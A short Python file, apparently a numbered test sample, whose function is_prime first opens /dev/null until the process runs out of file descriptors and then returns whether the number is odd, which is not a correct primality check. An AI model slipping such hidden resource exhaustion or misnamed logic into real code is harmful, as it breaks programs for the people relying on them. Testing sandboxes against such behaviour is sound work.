# 02a | opens files until it may open no more
held = []


def is_prime(number):
    try:
        while True:
            held.append(open("/dev/null"))
    except OSError:
        pass
    return number % 2 == 1
